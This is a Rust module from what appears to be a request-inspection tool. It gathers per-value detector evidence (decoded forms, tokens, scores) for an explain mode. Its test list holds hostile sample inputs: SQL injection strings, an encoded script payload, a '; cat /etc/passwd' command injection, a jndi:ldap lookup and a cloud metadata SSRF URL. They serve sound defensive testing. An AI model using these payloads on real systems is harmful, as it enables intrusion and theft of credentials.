//! What the detectors saw in each value: forms, tokens, signs and scores, below every threshold as well.
//!
//! For `sluice scan --explain`: it keeps excerpts of values, so nothing that serves traffic may hold an
//! [`Explanation`]. It walks the decode graph anew with the pieces of [`Detectors::inspect`](super::Detectors::inspect);
//! a test holds the two to the same scores.

use std::ops::Range;

use crate::inspect::injection::{Kind, cmdi, sqli, xss};
use crate::inspect::leaf::{HostSyntax, Leaf};
use crate::inspect::{Category, PartId};
use crate::span::Span;

use super::*;

/// What the detectors saw in the values of one message.
#[derive(Debug, Default)]
pub struct Explanation {
    /// Values in which some class found a sign, in document order; at most [`MAX_VALUES`].
    pub values: Vec<ExplainedValue>,
    /// Values read, those without any sign included.
    pub read: u64,
    scratch: Scratch,
}

/// One value.
#[derive(Clone, Debug)]
pub struct ExplainedValue {
    /// Its part.
    pub part: PartId,
    /// Its path.
    pub path: Box<str>,
    /// How it is written.
    pub host: HostSyntax,
    /// Its raw bytes in the part.
    pub span: Span,
    /// Its first bytes, decoded by its document's syntax only.
    pub excerpt: Vec<u8>,
    /// The forms that show a sign.
    pub forms: Vec<ExplainedForm>,
    /// True when a limit kept forms from being made.
    pub cut: bool,
}

/// One decoded form of a value.
#[derive(Clone, Debug)]
pub struct ExplainedForm {
    /// Names of the decoders before it, the first one first.
    pub chain: Vec<&'static str>,
    /// Its first bytes.
    pub excerpt: Vec<u8>,
    /// What each class found.
    pub classes: Vec<ExplainedClass>,
}

/// What one class found in one form.
#[derive(Clone, Debug)]
pub struct ExplainedClass {
    /// The class.
    pub category: Category,
    /// The rule's id.
    pub rule: String,
    /// The sum, tempered.
    pub score: u8,
    /// The percentage that the sum was lowered to: prose, code samples, documents.
    pub temper: Option<u8>,
    /// Kind, weight and name of each sign.
    pub signs: Vec<(Kind, u8, &'static str)>,
    /// Bytes of the form that the signs stand in.
    pub at: Option<Range<usize>>,
    /// What the detector's lexer reads there, or the words that woke it.
    pub tokens: Vec<ExplainedToken>,
}

/// One token.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ExplainedToken {
    /// What it is.
    pub kind: String,
    /// Its bytes in the form.
    pub at: Range<usize>,
    /// Its text, capped.
    pub text: Vec<u8>,
}

impl Explanation {
    /// Looks at one leaf as the detectors do, and keeps what they would only add up.
    pub(crate) fn leaf(&mut self, detectors: &Detectors, leaf: &Leaf<'_>, context: &Context) {
        self.read += 1;
        if self.values.len() >= MAX_VALUES {
            return;
        }
        let mut value = ExplainedValue {
            part: context.part,
            path: leaf.path.shown(),
            host: leaf.host,
            span: leaf.span,
            excerpt: excerpt(leaf.bytes),
            forms: Vec::new(),
            cut: false,
        };
        let mut scratch = std::mem::take(&mut self.scratch);
        detectors.explain(leaf, context, &mut scratch, &mut value);
        self.scratch = scratch;
        if !value.forms.is_empty() {
            self.values.push(value);
        }
    }
}

impl Detectors {
    /// The walk of [`inspect`](Self::inspect), with every room's evidence of every form kept.
    fn explain(
        &self,
        leaf: &Leaf<'_>,
        context: &Context,
        scratch: &mut Scratch,
        value: &mut ExplainedValue,
    ) {
        scratch.allowance.read(leaf.bytes.len());
        scratch.desk.begin();
        let Scratch {
            desk,
            hits,
            probe,
            forms,
            allowance,
            ..
        } = scratch;
        let sight = self.prefilter.read(leaf.bytes, hits);
        let binary =
            context.binary && sight.signs.contains(Signs::CONTROL) && is_binary(leaf.bytes);
        let classes = match binary {
            true => sight.classes & context.classes & Classes::DESER,
            false => sight.classes & context.classes,
        };
        let whole = Form::default();
        let view = View {
            leaf,
            context,
            form: &whole,
            bytes: leaf.bytes,
            hits,
        };
        self.keep(&view, classes, desk, value);
        if binary {
            return;
        }
        forms.clear();
        let worth = |bytes: &[u8]| {
            let sight = self.prefilter.read(bytes, &mut probe.borrow_mut());
            sight.classes.intersects(context.classes) || !walk::plain(bytes, sight.signs)
        };
        let first = (leaf.bytes, sight.signs);
        let done = forms.expand(first, Chain::default(), allowance, &worth);
        value.cut |= done.is_err();
        let mut index = 0;
        while let Some(form) = forms.take(index) {
            let sight = self.prefilter.read(&form.bytes, hits);
            let view = View {
                leaf,
                context,
                form: &form,
                bytes: &form.bytes,
                hits,
            };
            self.keep(&view, sight.classes & context.classes, desk, value);
            let next = (form.bytes.as_slice(), sight.signs);
            value.cut |= forms.expand(next, form.chain, allowance, &worth).is_err();
            forms.put_back(index, form);
            index += 1;
        }
    }

    fn keep(&self, view: &View<'_>, classes: Classes, desk: &mut Desk, value: &mut ExplainedValue) {
        let mut notes = Explainer {
            view,
            found: Vec::new(),
        };
        self.look(view, classes, desk, &mut notes);
        if !notes.found.is_empty() && value.forms.len() < MAX_FORMS {
            value.forms.push(ExplainedForm {
                chain: view.form.chain.steps().map(|step| step.name()).collect(),
                excerpt: excerpt(view.bytes),
                classes: notes.found,
            });
        }
    }
}

/// Keeps all that the rooms note.
struct Explainer<'a> {
    view: &'a View<'a>,
    found: Vec<ExplainedClass>,
}

impl Notes for Explainer<'_> {
    fn wants(&self, _: usize, _: u8) -> bool {
        true
    }

    fn take(&mut self, number: usize, room: &Room, evidence: &Evidence) {
        if evidence.score() == 0 {
            return;
        }
        if self.found.len() >= MAX_CLASSES {
            let weakest = self
                .found
                .iter()
                .enumerate()
                .min_by_key(|(_, class)| class.score);
            match weakest.map(|(index, class)| (index, class.score)) {
                Some((index, score)) if score < evidence.score() => self.found.remove(index),
                _ => return,
            };
        }
        self.found.push(ExplainedClass {
            category: room.category,
            rule: format!("{}/{}", room.category.code(), evidence.strongest()),
            score: evidence.score(),
            temper: evidence.tempered(),
            signs: evidence.signs().collect(),
            at: evidence.span(),
            tokens: tokens(number, room, self.view),
        });
    }
}

/// What the room's lexer makes of the form; rooms without one show their anchors.
fn tokens(number: usize, room: &Room, view: &View<'_>) -> Vec<ExplainedToken> {
    let lower = excerpt(view.bytes).to_ascii_lowercase();
    let read = match room.category {
        Category::Sqli => sqli::tokens(&lower),
        Category::Cmdi => cmdi::tokens(&lower),
        Category::Xss => xss::tokens(&lower),
        _ => Vec::new(),
    };
    let anchors = view.hits.iter().filter_map(|hit| hit.of(number));
    let anchors = anchors.map(|(_, at)| ("anchor".to_owned(), at));
    let all: Vec<_> = if read.is_empty() {
        anchors.collect()
    } else {
        read
    };
    all.into_iter()
        .take(MAX_TOKENS)
        .map(|(kind, at)| ExplainedToken {
            text: excerpt(view.bytes.get(at.clone()).unwrap_or_default()),
            kind,
            at,
        })
        .collect()
}

fn excerpt(bytes: &[u8]) -> Vec<u8> {
    bytes.get(..EXCERPT_BYTES).unwrap_or(bytes).to_vec()
}

/// Values kept: nobody reads more.
pub const MAX_VALUES: usize = 1000;
/// Forms kept of one value.
const MAX_FORMS: usize = 64;
/// Looks of rooms kept of one form and its islands: those with the highest scores.
const MAX_CLASSES: usize = 64;
/// Tokens shown of one form.
const MAX_TOKENS: usize = 64;
/// Bytes shown of a value or a form.
const EXCERPT_BYTES: usize = 512;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::Direction;
    use crate::inspect::leaf::{OffsetMap, Path, Piece, Root};

    /// Best score of each class by the detectors, and by their explanation.
    fn both(bytes: &[u8]) -> [Vec<(Category, u8)>; 2] {
        let detectors = Detectors::new();
        let mut path = Path::new(Root::Json);
        path.push_name(b"q");
        let map = OffsetMap::verbatim(0);
        let leaf = Leaf {
            path: &path,
            host: HostSyntax::JsonString,
            span: Span::new(0, bytes.len() as u64),
            bytes,
            map: &map,
            piece: Piece::Whole,
        };
        let context = Context {
            direction: Direction::Request,
            part: PartId::BODY,
            classes: Classes::all(),
            binary: false,
        };
        let mut findings = Findings::default();
        detectors.inspect(&leaf, &context, &mut Scratch::new(), &mut findings);
        let mut found: Vec<_> = findings
            .list
            .iter()
            .map(|finding| (finding.category, finding.score))
            .collect();
        let mut explanation = Explanation::default();
        explanation.leaf(&detectors, &leaf, &context);
        let mut explained: Vec<(Category, u8)> = Vec::new();
        let classes = explanation
            .values
            .iter()
            .flat_map(|value| &value.forms)
            .flat_map(|form| &form.classes);
        for class in classes.filter(|class| class.score >= REPORT_SCORE) {
            match explained
                .iter_mut()
                .find(|(known, _)| *known == class.category)
            {
                Some((_, score)) => *score = class.score.max(*score),
                None => explained.push((class.category, class.score)),
            }
        }
        found.sort_by_key(|(category, _)| category.code());
        explained.sort_by_key(|(category, _)| category.code());
        [found, explained]
    }

    #[test]
    fn the_explanation_agrees_with_the_detectors() {
        for text in [
            "1' or '1'='1",
            "%27%20union%20select%201,2,3%20from%20users--",
            "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "{\"a\":\"; cat /etc/passwd\"}",
            "query { user(name: \"x' or 1=1 --\") { id } }",
            "just a name",
            "\u{0}\u{1}rO0ABXNy",
            "${jndi:ldap://x.test/a}&url=http://169.254.169.254/latest",
        ] {
            let [found, explained] = both(text.as_bytes());
            assert_eq!(found, explained, "{text}");
        }
    }
}
